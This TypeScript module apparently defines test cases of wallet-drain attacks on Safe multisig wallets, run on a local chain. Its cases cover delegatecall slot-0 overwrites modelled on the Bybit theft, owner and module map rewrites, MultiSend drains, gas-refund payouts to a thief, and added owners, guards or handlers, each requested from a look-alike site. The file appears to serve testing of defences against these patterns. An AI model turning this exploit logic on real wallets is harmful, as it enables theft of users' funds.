import { type Address, concatHex, encodeFunctionData, encodePacked, type Hex, size } from 'viem';
import { readArtifact } from '../artifact.ts';
import type { Case } from '../Case.ts';
import { type About, attack, signature, type Typed, transaction, typedText } from './attack.ts';
import { type Deployed, ETHER, type Heist, type Measure, type RawCall, ZERO_ADDRESS } from './Heist.ts';

/** F4: a Safe that would run a thief's code as its own; and its owners, modules and guard. */
export const SAFES: readonly Case[] = [
  delegatecall(
    'f4-singleton',
    'transfer(address,uint256) of a contract that writes slot 0',
    'Bybit, 21 Feb 2025 ($1.5 B)',
    async (heist, safe) => {
      const writer = await heist.thiefs('SlotZeroWriter');
      const code = await heist.thiefs('SweepingSingleton');
      return {
        call: heist.encode(writer, 'transfer', [code.address, 0n]),
        theft: () => heist.send(heist.thief, { address: safe.safe.address, abi: code.abi }, 'sweepETH', [heist.thief]),
        stake: heist.ether(safe.safe.address),
      };
    },
  ),
  delegatecall(
    'f4-owners',
    'a contract that writes the owners’ map',
    'Radiant, 16 Oct 2024 ($50 M); WazirX, 18 July 2024 ($235 M)',
    async (heist, safe) => {
      const swapper = await heist.thiefs('OwnerSwapper');
      return {
        call: heist.encode(swapper, 'setupToken', [heist.thief]),
        theft: () => executed(heist, safe, { to: heist.thief, data: '0x', valueWei: 2n * ETHER }, 0, heist.thief),
        stake: heist.ether(safe.safe.address),
      };
    },
  ),
  delegatecall(
    'f4-module',
    'a contract that writes the modules’ map',
    'Radiant-like module insertion',
    async (heist, safe) => {
      const swapper = await heist.thiefs('OwnerSwapper');
      return {
        call: heist.encode(swapper, 'enable', [heist.thief]),
        theft: () =>
          heist.send(heist.thief, safe.safe, 'execTransactionFromModule', [heist.thief, 2n * ETHER, '0x', 0]),
        stake: heist.ether(safe.safe.address),
      };
    },
  ),
  transaction(
    {
      id: 'f4-exec-transaction',
      family: 'F4',
      shape: 'execTransaction with operation 1 to the writer of slot 0',
      provenance: 'Bybit, 21 Feb 2025, executed by the last owner',
    },
    async (heist) => {
      const safe = await usersSafe(heist);
      const writer = await heist.thiefs('SlotZeroWriter');
      const code = await heist.thiefs('SweepingSingleton');
      return {
        call: execCall(heist, safe, heist.encode(writer, 'transfer', [code.address, 0n]), 1),
        theft: () => heist.send(heist.thief, { address: safe.safe.address, abi: code.abi }, 'sweepETH', [heist.thief]),
        stake: heist.ether(safe.safe.address),
      };
    },
  ),
  safeTx(
    'f4-multisend-inner',
    'F4',
    'SafeTx to MultiSend with a delegatecall inside',
    'Safe MultiSend',
    async (heist, safe) => {
      const writer = await heist.thiefs('SlotZeroWriter');
      const code = await heist.thiefs('SweepingSingleton');
      const multiSend = await safeLibrary(heist, 'libraries/MultiSend.sol/MultiSend', MULTI_SEND);
      const inner = packed(1, heist.encode(writer, 'transfer', [code.address, 0n]));
      return {
        call: heist.encode(multiSend, 'multiSend', [inner]),
        operation: 1,
        theft: () => heist.send(heist.thief, { address: safe.safe.address, abi: code.abi }, 'sweepETH', [heist.thief]),
        stake: heist.ether(safe.safe.address),
      };
    },
  ),
  safeTx(
    'f4-copied-multisend',
    'F4',
    'SafeTx by delegatecall to the thief’s copy of MultiSend',
    'look-alike MultiSend libraries',
    async (heist, safe) => {
      const copy = await heist.world.deploy(
        'attack MultiSend copy',
        readArtifact(`${SAFE_PATH}/libraries/MultiSend.sol/MultiSend.json`),
        [],
        { from: heist.thief },
      );
      const { abi } = readArtifact(`${SAFE_PATH}/libraries/MultiSend.sol/MultiSend.json`);
      const inner = packed(0, { to: heist.thief, data: '0x', valueWei: 2n * ETHER });
      return {
        call: heist.encode({ address: copy, abi }, 'multiSend', [inner]),
        operation: 1,
        stake: heist.ether(safe.safe.address),
      };
    },
  ),
  safeTx(
    'f4-multisend-drain',
    'F4',
    'SafeTx to MultiSendCallOnly that sends out every holding',
    'Safe MultiSendCallOnly',
    async (heist, safe) => {
      const multiSend = await safeLibrary(heist, 'libraries/MultiSendCallOnly.sol/MultiSendCallOnly', CALL_ONLY);
      const held = await heist.balance(safe.coin, safe.safe.address)();
      const inner = concatHex([
        packed(0, heist.encode(safe.coin, 'transfer', [heist.thief, held])),
        packed(0, { to: heist.thief, data: '0x', valueWei: await wei(heist, safe.safe.address) }),
      ]);
      return {
        call: heist.encode(multiSend, 'multiSend', [inner]),
        operation: 1,
        stake: heist.balance(safe.coin, safe.safe.address),
      };
    },
  ),
  safeTx(
    'f4-refund',
    'F4',
    'SafeTx whose gas refund pays the thief everything',
    'Safe refunds (gasPrice, gasToken, refundReceiver)',
    async (heist, safe) => ({
      call: { to: heist.world.friend, data: '0x' },
      operation: 0,
      refund: { baseGas: (19n * ETHER) / 10n, gasPrice: 1n, refundReceiver: heist.thief },
      stake: heist.ether(safe.safe.address),
    }),
  ),
  onSafe('f5-add-owner', 'addOwnerWithThreshold', (heist) => [heist.thief, 1n]),
  onSafe('f5-swap-owner', 'swapOwner', (heist) => [SENTINEL, heist.user, heist.thief]),
  onSafe('f5-enable-module', 'enableModule', (heist) => [heist.thief]),
  onSafe('f5-set-guard', 'setGuard', (heist) => [heist.thief]),
  onSafe('f5-fallback-handler', 'setFallbackHandler', (heist) => [heist.thief]),
];

const SAFE_PATH = '@safe-global/safe-smart-account/build/artifacts/contracts';
const MULTI_SEND: Address = '0x38869bf66a61cF6bDB996A6aE40D5853Fd43B526';
const CALL_ONLY: Address = '0x9641d764fc13c8B624c04430C7356C1C7C8102e2';
const SENTINEL: Address = '0x0000000000000000000000000000000000000001';

interface UsersSafe {
  readonly safe: Deployed;
  readonly coin: Deployed;
}

/** A Safe of the user alone, with 2 ether and coins. */
async function usersSafe(heist: Heist): Promise<UsersSafe> {
  const own = readArtifact(`${SAFE_PATH}/Safe.sol/Safe.json`);
  const factory = readArtifact(`${SAFE_PATH}/proxies/SafeProxyFactory.sol/SafeProxyFactory.json`);
  const { world, user } = heist;
  const singleton = await world.deploy('attack Safe', own);
  const maker = { address: await world.deploy('attack SafeProxyFactory', factory), abi: factory.abi };
  const setup = encodeFunctionData({
    abi: own.abi,
    functionName: 'setup',
    args: [[user], 1n, ZERO_ADDRESS, '0x', ZERO_ADDRESS, ZERO_ADDRESS, 0n, ZERO_ADDRESS],
  });
  const address = await world.once(`attack Safe of ${user}`, async () => {
    const call = heist.encode(maker, 'createProxyWithNonce', [singleton, setup, 7n]);
    const made = await world.rpc('eth_call', [{ from: world.deployer, to: call.to, data: call.data }, 'latest']);
    await world.sendRaw(world.deployer, call);
    const found: Address = `0x${String(made).slice(-40)}`;
    return found;
  });
  await heist.setEther(address, 2n * ETHER);
  const coin = await heist.coin();
  await heist.send(world.deployer, coin, 'mint', [address, heist.scaled(8_000_000_000n)]);
  return { safe: { address, abi: own.abi }, coin };
}

async function safeLibrary(heist: Heist, path: string, at: Address): Promise<Deployed> {
  const artifact = readArtifact(`${SAFE_PATH}/${path}.json`);
  return { address: await heist.world.deployAt(at, artifact), abi: artifact.abi };
}

interface SafePlan {
  readonly call: RawCall;
  readonly operation: 0 | 1;
  readonly refund?: { readonly baseGas: bigint; readonly gasPrice: bigint; readonly refundReceiver: Address };
  readonly theft?: () => Promise<unknown>;
  readonly stake: Measure;
}

/** The user signs as an owner; the thief executes. */
function safeTx(
  id: string,
  family: string,
  shape: string,
  provenance: string,
  plan: (heist: Heist, safe: UsersSafe) => Promise<SafePlan>,
): Case {
  return signature({ id, family, shape, provenance, origin: 'https://safe.orchardvault.com' }, async (heist) => {
    const safe = await usersSafe(heist);
    const { call, operation, refund, theft, stake } = await plan(heist, safe);
    const { baseGas = 0n, gasPrice = 0n, refundReceiver = ZERO_ADDRESS } = refund ?? {};
    const { to, data, valueWei: value = 0n } = call;
    return {
      typed: safeTyped(heist, safe, { to, value, data, operation, baseGas, gasPrice, refundReceiver }),
      stake,
      async theft(signed) {
        const args = [to, value, data, operation, 0n, baseGas, gasPrice, ZERO_ADDRESS, refundReceiver, signed];
        await heist.send(heist.thief, safe.safe, 'execTransaction', args);
        await theft?.();
      },
    };
  });
}

function safeTyped(heist: Heist, { safe }: UsersSafe, parts: Readonly<Record<string, unknown>>): Typed {
  const fields =
    'to address,value uint256,data bytes,operation uint8,safeTxGas uint256,baseGas uint256,gasPrice uint256,gasToken address,refundReceiver address,nonce uint256';
  return {
    domain: { chainId: heist.world.chainId, verifyingContract: safe.address },
    types: {
      SafeTx: fields.split(',').map((field) => {
        const [name = '', type = ''] = field.split(' ');
        return { name, type };
      }),
    },
    primaryType: 'SafeTx',
    message: { safeTxGas: 0n, gasToken: ZERO_ADDRESS, nonce: 0n, ...parts },
  };
}

function delegatecall(
  id: string,
  what: string,
  provenance: string,
  plan: (heist: Heist, safe: UsersSafe) => Promise<Omit<SafePlan, 'operation'>>,
): Case {
  return safeTx(id, 'F4', `SafeTx with operation 1 to ${what}`, provenance, async (heist, safe) => ({
    ...(await plan(heist, safe)),
    operation: 1,
  }));
}

/** `execTransaction` by the sole owner, whose approval is being the sender. */
function execCall(heist: Heist, { safe }: UsersSafe, call: RawCall, operation: 0 | 1, owner = heist.user): RawCall {
  const { to, data, valueWei = 0n } = call;
  const approved: Hex = `0x${owner.slice(2).padStart(64, '0')}${'0'.repeat(64)}01`;
  const args = [to, valueWei, data, operation, 0n, 0n, 0n, ZERO_ADDRESS, ZERO_ADDRESS, approved];
  return heist.encode(safe, 'execTransaction', args);
}

async function executed(heist: Heist, safe: UsersSafe, call: RawCall, operation: 0 | 1, owner: Address) {
  await heist.world.sendRaw(owner, execCall(heist, safe, call, operation, owner));
}

/** F5 on a Safe: an owner executes a call of the Safe to itself. */
function onSafe(id: string, functionName: string, args: (heist: Heist) => readonly unknown[]): Case {
  const about: About = {
    id,
    family: 'F5',
    shape: `execTransaction of the Safe's own ${functionName}`,
    provenance: 'Safe owner, module, guard and handler management',
  };
  if (functionName === 'setGuard' || functionName === 'setFallbackHandler') {
    return attack({ ...about, shape: `SafeTx of the Safe's own ${functionName}` }, async (heist) => {
      const safe = await usersSafe(heist);
      const inner = heist.encode(safe.safe, functionName, args(heist));
      const parts = { value: 0n, operation: 0, baseGas: 0n, gasPrice: 0n, refundReceiver: ZERO_ADDRESS };
      const typed = safeTyped(heist, safe, { to: inner.to, data: inner.data, ...parts });
      return { method: 'eth_signTypedData_v4', params: [heist.user, typedText(typed)], account: heist.user };
    });
  }
  return transaction(about, async (heist) => {
    const safe = await usersSafe(heist);
    const inner = heist.encode(safe.safe, functionName, args(heist));
    const sends = { to: heist.thief, data: '0x', valueWei: 2n * ETHER } as const;
    return {
      call: execCall(heist, safe, inner, 0),
      stake: heist.ether(safe.safe.address),
      theft: () =>
        functionName === 'enableModule'
          ? heist.send(heist.thief, safe.safe, 'execTransactionFromModule', [heist.thief, 2n * ETHER, '0x', 0])
          : executed(heist, safe, sends, 0, heist.thief),
    };
  });
}

function packed(operation: 0 | 1, { to, data, valueWei = 0n }: RawCall): Hex {
  return encodePacked(
    ['uint8', 'address', 'uint256', 'uint256', 'bytes'],
    [operation, to, valueWei, BigInt(size(data)), data],
  );
}

async function wei(heist: Heist, address: Address): Promise<bigint> {
  return BigInt(String(await heist.world.rpc('eth_getBalance', [address, 'latest'])));
}
